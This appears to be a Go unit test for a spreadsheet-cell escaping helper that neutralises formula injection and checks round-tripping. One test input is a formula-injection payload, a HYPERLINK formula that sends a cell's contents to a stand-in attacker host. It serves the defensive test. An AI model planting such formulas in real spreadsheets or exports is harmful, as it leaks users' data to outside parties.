package expr

import "testing"

// TestACellIsNoFormula writes what strangers might put into a table, and reads it
// back whole.
func TestACellIsNoFormula(t *testing.T) {
	for v, want := range map[any]string{
		`=HYPERLINK("https://evil.example?"&A1)`: `'=HYPERLINK("https://evil.example?"&A1)`,
		"+44 1632 960 100":                       "'+44 1632 960 100",
		"-3":                                     "'-3", int64(-3): "-3", -2.5: "-2.5", "@SUM(1)": "'@SUM(1)",
		"\t=1": "'\t=1", "'=1": "''=1", "''=1": "'''=1", "'tis": "'tis", "": "", "a=1": "a=1", true: "true",
	} {
		got := Cell(v)
		if got != want {
			t.Errorf("%v is written as %q, want %q", v, got, want)
		}
		if text, is := v.(string); is && FromCell(got) != text {
			t.Errorf("%q comes back as %q", text, FromCell(got))
		}
	}
}
